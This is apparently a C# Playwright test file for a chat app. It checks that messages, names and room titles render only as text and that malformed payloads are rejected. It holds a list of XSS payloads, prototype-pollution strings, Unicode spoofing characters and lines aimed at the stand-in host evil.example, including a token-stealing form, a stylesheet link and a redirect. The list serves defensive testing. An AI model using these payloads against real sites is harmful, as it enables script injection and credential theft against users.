using System.Text.Json;
using static Microsoft.Playwright.Assertions;

namespace Parley.Chat.Tests;

/// <summary>What people type is text: nothing of it runs in anybody's page, and no element is made of it but links.</summary>
[Collection<OnOneChat>]
public sealed class AttackTests(SharedBrowser browser, SharedChat chat) : ChatTest(browser, chat)
{
    private static readonly string[] _attacks =
    [
        "<script>window.owned = 1</script>",
        "<img src=x onerror=\"window.owned = 1\">",
        "<svg onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x></svg>",
        "<svg><script href=\"data:,window.owned=1\"/></svg>",
        "<iframe srcdoc=\"<script>parent.owned = 1</script>\"></iframe>",
        "<a href=\"javascript:window.owned=1\">click</a>",
        "javascript:window.owned=1",
        "java\tscript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x",
        "https://example.com/\"onmouseover=\"window.owned=1",
        "https://example.com/'><img src=x onerror=window.owned=1>",
        "http://javascript:alert(1)@example.com/%0aalert(1)",
        "</p></div></body><body onload=window.owned=1>",
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
        "<form action=//evil.example><input name=token><button>Sign in</button></form>",
        "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
        "&lt;script&gt;window.owned=1&lt;/script&gt; &#60;img src=x onerror=owned&#61;1&#62;",
        "<math><mi xlink:href=\"javascript:window.owned=1\">x</mi></math>",
        "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} `${1}`",
        "__proto__ constructor toString hasOwnProperty",
        "{\"__proto__\": {\"owned\": 1}}",
        "'; window.owned = 1; //",
        "\u0000\u0001\u001b[31mred\u0007",
        "\u202egnp.exe \u2066isolated\u2069 \u200b\u200c\u200d\ufeff invisible",
        "Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358g\u0359o",
        "\U000E0001\U000E0041 tags",
        "{\"op\":\"joined\",\"group\":\"room.lobby\"}",
    ];

    [Fact]
    public async Task No_message_runs_or_becomes_an_element()
    {
        string path = await Chat.MakeRoomAsync("Fort");
        Visitor ada = await ComeInAsync("Ada", path);
        Visitor eve = await ComeInAsync("Eve", path);
        await ada.Page.EvaluateAsync("() => { window.violations = []; document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.blockedURI)); }");
        string nodes = await PageFrameAsync(ada);
        foreach (string attack in _attacks)
        {
            await eve.SayAsync(attack);
        }

        await eve.SayAsync(new string('W', 4000));
        await eve.SayAsync("the end");
        await ada.HearsAsync("the end");
        await Expect(eve.Page.Locator("#messages [data-state=stored]")).ToHaveCountAsync(_attacks.Length + 2);

        string[] texts = [.. await ada.Texts.AllTextContentsAsync()];
        for (int i = 0; i < _attacks.Length; i++)
        {
            Assert.Equal(_attacks[i].Replace("\u202e", "", StringComparison.Ordinal).Trim(), texts[i]);
        }

        Assert.Empty(await ada.Page.EvaluateAsync<string[]>("() => [...document.querySelectorAll('#messages .text *')].map((e) => e.outerHTML).filter((html) => !html.startsWith('<a '))"));
        Assert.Empty(await ada.Page.EvaluateAsync<string[]>("() => [...document.querySelectorAll('#messages a')].map((a) => a.protocol).filter((p) => p !== 'https:' && p !== 'http:')"));
        Assert.Empty(await ada.Page.EvaluateAsync<string[]>("() => window.violations"));
        Assert.True(await ada.Page.EvaluateAsync<bool>("() => window.owned === undefined && Object.prototype.owned === undefined"));
        Assert.Equal(nodes, await PageFrameAsync(ada));
        Assert.True(await ada.Page.EvaluateAsync<bool>("() => document.documentElement.scrollWidth <= innerWidth"), "Nothing makes the page wider.");
    }

    [Fact]
    public async Task Names_and_rooms_are_text_too_and_nobody_hides_in_them()
    {
        const string title = "<img src=x onerror=window.owned=1>";
        string path = await Chat.MakeRoomAsync(title);
        Visitor ada = await ComeInAsync("Ada", path);
        Visitor eve = await ComeInAsync("<b onclick=owned()>Eve</b>", path);
        await eve.SayAsync("hello");
        await ada.HearsAsync("hello");
        await Expect(ada.Messages.Last.Locator(".author")).ToHaveTextAsync("<b onclick=owned()>Eve</b>");
        await Expect(ada.Page.Locator("#room-title")).ToHaveTextAsync(title);
        await Expect(ada.Page.Locator("#messages img, #messages b, #rooms img, #people b")).ToHaveCountAsync(0);
        await Expect(ada.Page.Locator("#people-list .verified")).ToHaveCountAsync(0);

        Visitor boss = await OpenAsync(path);
        await boss.TakeNameAsync("Boss");
        await Expect(boss.Page.Locator("#name-error")).Not.ToHaveTextAsync("");
    }

    [Fact]
    public async Task What_does_not_look_like_a_message_is_refused_and_would_show_nothing()
    {
        Visitor ada = await ComeInAsync("Ada", "/room/lobby");
        JsonElement refusals = await ada.Page.EvaluateAsync<JsonElement>("""
            async () => {
              const { connect } = await import("/parley.js");
              const { contentOf } = await import("/js/row.js");
              const connection = connect("/chat");
              const room = connection.join("room.lobby", { members: "none" });
              const bad = [
                "text", 7, null, [], {}, { text: 7 }, { text: "" }, { text: "x".repeat(4001) }, { text: "x", html: "<b>" },
                JSON.parse('{"__proto__": {"text": "x"}}'), { pictures: [] }, { pictures: [{ url: "javascript:alert(1)", width: 1, height: 1 }] },
                { pictures: [{ url: "https://evil.example/x.png", width: 1, height: 1 }] }, { pictures: [{ url: "/pictures/../x.png", width: 1, height: 1 }] },
                { text: "x", user: "u:1:Boss" },
              ];
              const codes = await Promise.all(bad.map((data) => room.publish(data).then(() => `taken: ${JSON.stringify(data)}`, (error) => error.code)));
              connection.close();
              return { taken: codes.filter((code) => code.startsWith("taken")), pictures: bad.flatMap((data) => contentOf(data).pictures) };
            }
            """);
        Assert.Empty(refusals.GetProperty("taken").EnumerateArray());
        Assert.Empty(refusals.GetProperty("pictures").EnumerateArray());
        await Expect(ada.Messages).ToHaveCountAsync(0);
    }

    // Everything of the page but the messages, and what changes by itself.
    private static Task<string> PageFrameAsync(Visitor visitor) => visitor.Page.EvaluateAsync<string>("""
        () => [...document.querySelectorAll("*")].filter((e) => !e.closest("#messages, #typing, #rooms, #people, #newer")).map((e) => e.tagName).join(" ")
        """);
}
